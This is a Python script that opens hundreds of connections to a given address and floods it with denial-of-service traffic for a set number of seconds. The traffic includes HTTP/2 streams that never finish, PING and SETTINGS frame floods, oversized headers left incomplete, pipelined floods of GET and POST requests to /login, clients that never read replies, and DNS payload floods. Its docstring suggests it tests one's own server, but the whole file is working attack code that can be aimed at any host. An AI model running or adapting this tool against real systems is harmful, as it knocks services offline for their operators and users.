"""A guest that takes all it can get of one thing, from its own machine: `greedy.py KIND ADDRESS SECONDS`."""

import asyncio
import base64
import dataclasses
import resource
import ssl
import struct
import sys
from collections.abc import Callable, Iterator


def frame(kind, flags, stream, payload=b""):
    """A frame of HTTP/2 (RFC 9113, 4.1)."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def length(value, bits):
    """An integer with a prefix (RFC 7541, 5.1)."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([value])
    rest, value = [most], value - most
    while value >= 128:
        rest.append(value % 128 + 128)
        value //= 128
    return bytes([*rest, value])


def field(name, value):
    """A literal field without indexing (RFC 7541, 6.2.2)."""
    return b"\0" + length(len(name), 7) + name + length(len(value), 7) + value


def head(method, path, host, *more):
    fields = [(b":method", method), (b":scheme", b"https"), (b":authority", host), (b":path", path), *more]
    return b"".join(field(*pair) for pair in fields)


HELLO = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)
FORM = (b"content-type", b"application/x-www-form-urlencoded")
QUESTION = bytes.fromhex("000001000001000000000000057768657265076578616d706c650000010001")


@dataclasses.dataclass
class Kind:
    """What each connection sends: first `opening`, then piece after piece of `more`, as fast as they are taken."""

    connections: int
    opening: Callable[[bytes], bytes]
    more: Callable[[bytes], Iterator[bytes]] = lambda host: iter(())
    port: int = 443
    protocol: str | None = "h2"
    reads: bool = True
    pause: float = 0


def unfinished(path, bytes_each, content_length):
    """A hundred posts on one connection, none of which ends."""
    def opening(host):
        fields = head(b"POST", path, host, FORM, (b"content-length", b"%d" % content_length))
        return HELLO + b"".join(frame(1, 4, stream, fields) for stream in range(1, 201, 2))

    def more(host):
        for stream in range(1, 201, 2):
            left = bytes_each
            while left > 0:
                yield frame(0, 0, stream, b"a" * min(left, 16_000))
                left -= 16_000
    return opening, more


def unfinished_queries():
    def opening(host):
        fields = head(
            b"POST", b"/dns-query", host, (b"content-type", b"application/dns-message"), (b"content-length", b"64000"))
        return HELLO + b"".join(frame(1, 4, stream, fields) for stream in range(1, 201, 2))
    return opening, unfinished(b"", 60_000, 0)[1]


def finished(path):
    """Whole requests over HTTP/2, a hundred at a time."""
    def more(host):
        for begin in range(1, 2_000_001, 200):
            fields = head(b"GET", path, host, (b"accept-encoding", b"gzip"))
            yield b"".join(frame(1, 5, stream, fields) for stream in range(begin, begin + 200, 2))
    return more


def large_heads(host):
    """Heads of nearly 16 KB, in two frames, the second of which never comes."""
    fields = head(b"GET", b"/login", host, *((b"x-%d" % number, b"b" * 900) for number in range(16)))
    return HELLO + frame(1, 1, 1, fields[:16_000])


def many_large_heads(host):
    for begin in range(1, 2_000_001, 20):
        fields = head(b"GET", b"/login", host, *((b"x-%d" % number, b"b" * 900) for number in range(15)))
        yield b"".join(frame(1, 5, stream, fields) for stream in range(begin, begin + 20, 2))


def forever(piece):
    def more(host):
        whole = piece(host)
        while True:
            yield whole
    return more


def get(path, host=None):
    return lambda own: b"GET " + path + b" HTTP/1.1\r\nHost: " + (host or own) + b"\r\n\r\n"


def many(one, count):
    return lambda host: one(host) * count


def post(path, body, content_length=None):
    return lambda host: (
        b"POST " + path + b" HTTP/1.1\r\nHost: " + host + b"\r\nContent-Type: " + FORM[1]
        + b"\r\nContent-Length: %d\r\n\r\n" % (content_length or len(body)) + body)


def query(host):
    return get(b"/dns-query?dns=" + base64.urlsafe_b64encode(QUESTION).rstrip(b"="))(host)


def nothing(host):
    return b""


KINDS = {
    "posts": Kind(250, *unfinished(b"/login", 0, 100)),
    "bodies": Kind(250, *unfinished(b"/login", 60_000, 64_000)),
    "queries": Kind(250, *unfinished_queries()),
    "finished": Kind(30, lambda host: HELLO, finished(b"/login"), pause=0.1),
    "pings": Kind(30, lambda host: HELLO, forever(lambda host: frame(6, 0, 0, b"12345678") * 900)),
    "settings": Kind(30, lambda host: HELLO, forever(lambda host: frame(4, 0, 0) * 1800)),
    "large-heads": Kind(250, large_heads),
    "many-large-heads": Kind(30, lambda host: HELLO, many_large_heads, pause=0.1),
    "plain-heads": Kind(250, lambda host: get(b"/login")(host) + b"GET /" + b"a" * 15_000, port=80, protocol=None),
    "plain-bodies": Kind(250, post(b"/login", b"a" * 60_000, 64_000), port=80, protocol=None),
    "secure-bodies": Kind(250, post(b"/login", b"a" * 60_000, 64_000), protocol="http/1.1"),
    "plain-gets": Kind(30, nothing, forever(many(get(b"/login"), 400)), port=80, protocol=None),
    "secure-gets": Kind(30, nothing, forever(many(get(b"/login"), 400)), protocol="http/1.1"),
    "short-gets": Kind(250, nothing, forever(many(get(b"/"), 2000)), port=80, protocol=None, reads=False),
    "pipelined-posts": Kind(30, nothing, forever(many(post(b"/login", b"passcode=x"), 300)), port=80, protocol=None),
    "helps": Kind(30, nothing, forever(many(get(b"/help"), 400)), port=80, protocol=None),
    "shields": Kind(60, nothing, forever(many(get(b"/", b"www.tiktok.com"), 1500)), port=80, protocol=None),
    "deaf": Kind(250, nothing, forever(many(get(b"/app.css"), 400)), port=80, protocol=None, reads=False),
    "deaf-secure": Kind(250, lambda host: HELLO, finished(b"/app.css"), reads=False, pause=0.5),
    "events": Kind(250, get(b"/events"), port=80, protocol=None, reads=False),
    "questions": Kind(30, nothing, forever(many(query, 300)), protocol="http/1.1"),
    "dns": Kind(250, lambda host: struct.pack(">H", 64_000) + b"a" * 60_000, port=53, protocol=None),
}


class Connection(asyncio.Protocol):
    def __init__(self, kind, host, reopen):
        self.kind, self.host, self.reopen = kind, host, reopen
        self.pieces = kind.more(host)
        self.may_write = True
        self.is_pumping = False

    def connection_made(self, transport):
        self.transport = transport
        if not self.kind.reads:
            transport.pause_reading()
        transport.write(self.kind.opening(self.host))
        self.pump()

    def pump(self):
        self.is_pumping = False
        if self.transport.is_closing():
            return
        piece = next(self.pieces, None) if self.may_write else None
        if piece is not None:
            self.transport.write(piece)
            self.is_pumping = True
            asyncio.get_running_loop().call_later(self.kind.pause, self.pump)

    def pause_writing(self):
        self.may_write = False

    def resume_writing(self):
        self.may_write = True
        if not self.is_pumping:
            self.pump()

    def connection_lost(self, error):
        self.reopen()


async def take(kind, address, seconds):
    context = None
    if kind.protocol:
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols([kind.protocol])
    loop = asyncio.get_running_loop()

    async def one():
        while True:
            lost = asyncio.Event()
            try:
                await loop.create_connection(
                    lambda: Connection(kind, address.encode(), lost.set), address, kind.port, ssl=context,
                    server_hostname="" if context else None)
                await lost.wait()
            except OSError:
                pass
            await asyncio.sleep(0.3)

    await asyncio.wait([asyncio.ensure_future(one()) for _ in range(kind.connections)], timeout=seconds)


if __name__ == "__main__":
    resource.setrlimit(resource.RLIMIT_NOFILE, (2048, 2048))
    asyncio.run(take(KINDS[sys.argv[1]], sys.argv[2], float(sys.argv[3])))
